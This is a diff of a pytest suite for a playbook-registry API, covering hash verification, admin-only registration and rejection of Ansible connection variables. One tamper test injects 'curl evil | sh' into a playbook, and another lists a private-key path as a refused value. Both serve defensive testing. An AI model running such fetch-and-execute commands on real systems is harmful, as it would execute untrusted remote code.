@@ -35,12 +35,12 @@ async def client(engine: AsyncEngine, root: Path) -> AsyncIterator[httpx.AsyncCl
 
 
 async def test_a_registered_file_is_hashed_and_verified(
-    client: httpx.AsyncClient, operator: Person, root: Path, engine: AsyncEngine
+    client: httpx.AsyncClient, admin: Person, root: Path, engine: AsyncEngine
 ) -> None:
     response = await client.post(
         "/playbooks",
         json={"name": unique("site"), "file_path": "site.yml"},
-        headers=operator.headers,
+        headers=admin.headers,
     )
     playbook = response.json()
 
@@ -49,21 +49,21 @@ async def test_a_registered_file_is_hashed_and_verified(
     assert playbook["file_path"] == str((root / "site.yml").resolve())
     assert await audit_trail(engine, response) == [("create", "playbook")]
     verify = f"/playbooks/{playbook['id']}/verify"
-    assert (await client.get(verify, headers=operator.headers)).json()["matches"] is True
+    assert (await client.get(verify, headers=admin.headers)).json()["matches"] is True
     (root / "site.yml").write_text(PLAY + "    - ansible.builtin.shell: curl evil | sh\n")
-    changed = (await client.get(verify, headers=operator.headers)).json()
+    changed = (await client.get(verify, headers=admin.headers)).json()
     assert changed["matches"] is False
     assert changed["current_hash"] != playbook["file_hash"]
     (root / "site.yml").unlink()
-    assert (await client.get(verify, headers=operator.headers)).json()["current_hash"] is None
+    assert (await client.get(verify, headers=admin.headers)).json()["current_hash"] is None
 
 
 async def test_uploaded_content_is_stored_under_the_root(
-    client: httpx.AsyncClient, operator: Person, root: Path
+    client: httpx.AsyncClient, admin: Person, root: Path
 ) -> None:
     name = unique("upload")
     response = await client.post(
-        "/playbooks", json={"name": name, "content": PLAY}, headers=operator.headers
+        "/playbooks", json={"name": name, "content": PLAY}, headers=admin.headers
     )
     assert response.status_code == 201
     assert Path(response.json()["file_path"]).read_text() == PLAY
@@ -94,27 +94,27 @@ async def test_uploaded_content_is_stored_under_the_root(
     ],
 )
 async def test_bad_registrations_are_422(
-    client: httpx.AsyncClient, operator: Person, body: dict[str, str], reason: str
+    client: httpx.AsyncClient, admin: Person, body: dict[str, str], reason: str
 ) -> None:
     response = await client.post(
-        "/playbooks", json={"name": unique("bad")} | body, headers=operator.headers
+        "/playbooks", json={"name": unique("bad")} | body, headers=admin.headers
     )
     assert response.status_code == 422
     assert reason in response.text
 
 
 async def test_names_are_unique_and_viewers_only_read(
-    client: httpx.AsyncClient, operator: Person, viewer: Person
+    client: httpx.AsyncClient, admin: Person, viewer: Person
 ) -> None:
     name = unique("dup")
     assert (
         await client.post(
-            "/playbooks", json={"name": name, "file_path": "site.yml"}, headers=operator.headers
+            "/playbooks", json={"name": name, "file_path": "site.yml"}, headers=admin.headers
         )
     ).status_code == 201
     assert (
         await client.post(
-            "/playbooks", json={"name": name, "file_path": "site.yml"}, headers=operator.headers
+            "/playbooks", json={"name": name, "file_path": "site.yml"}, headers=admin.headers
         )
     ).status_code == 409
     assert (
@@ -129,24 +129,80 @@ async def test_names_are_unique_and_viewers_only_read(
 
 
 async def test_a_playbook_update_is_audited(
-    client: httpx.AsyncClient, operator: Person, engine: AsyncEngine
+    client: httpx.AsyncClient, admin: Person, engine: AsyncEngine
 ) -> None:
     created = (
         await client.post(
             "/playbooks",
             json={"name": unique("u"), "file_path": "site.yml"},
-            headers=operator.headers,
+            headers=admin.headers,
         )
     ).json()
     response = await client.patch(
         f"/playbooks/{created['id']}",
         json={"is_active": False, "tags": ["web"]},
-        headers=operator.headers,
+        headers=admin.headers,
     )
     assert response.json()["is_active"] is False
     assert await audit_trail(engine, response) == [("update", "playbook")]
     assert (
         await client.patch(
-            f"/playbooks/{created['id']}", json={"file_hash": "0" * 64}, headers=operator.headers
+            f"/playbooks/{created['id']}", json={"file_hash": "0" * 64}, headers=admin.headers
         )
     ).status_code == 422
+
+
+async def test_only_admins_put_code_on_the_controller(
+    client: httpx.AsyncClient, admin: Person, operator: Person
+) -> None:
+    """A playbook runs on the controller: an operator launches what an admin registered,
+    and may neither register one nor change one."""
+    made = await client.post(
+        "/playbooks", json={"name": unique("code"), "content": PLAY}, headers=admin.headers
+    )
+    assert made.status_code == 201, made.text
+    playbook = made.json()["id"]
+
+    registered = await client.post(
+        "/playbooks", json={"name": unique("mine"), "content": PLAY}, headers=operator.headers
+    )
+    changed = await client.patch(
+        f"/playbooks/{playbook}", json={"variables": {"x": 1}}, headers=operator.headers
+    )
+
+    assert registered.status_code == changed.status_code == 403
+    read = await client.get(f"/playbooks/{playbook}", headers=operator.headers)
+    assert read.status_code == 200
+    assert read.json()["variables"] is None
+
+
+@pytest.mark.parametrize(
+    "variables",
+    [
+        {"ansible_connection": "local"},
+        {"ansible_ssh_private_key_file": "/etc/opsledger.key"},
+        {"fine": 1, "ansible_host": "127.0.0.1"},
+    ],
+)
+async def test_connection_variables_are_refused_when_saved(
+    client: httpx.AsyncClient, admin: Person, variables: dict[str, object]
+) -> None:
+    name = unique("vars")
+    playbook = await client.post(
+        "/playbooks",
+        json={"name": name, "content": PLAY, "variables": variables},
+        headers=admin.headers,
+    )
+    role = await client.post(
+        "/host-roles", json={"name": name, "variables": variables}, headers=admin.headers
+    )
+    fine = await client.post(
+        "/playbooks", json={"name": name, "content": PLAY}, headers=admin.headers
+    )
+    patched = await client.patch(
+        f"/playbooks/{fine.json()['id']}", json={"variables": variables}, headers=admin.headers
+    )
+
+    assert playbook.status_code == role.status_code == patched.status_code == 422
+    assert "ansible_" in playbook.text
+    assert fine.status_code == 201
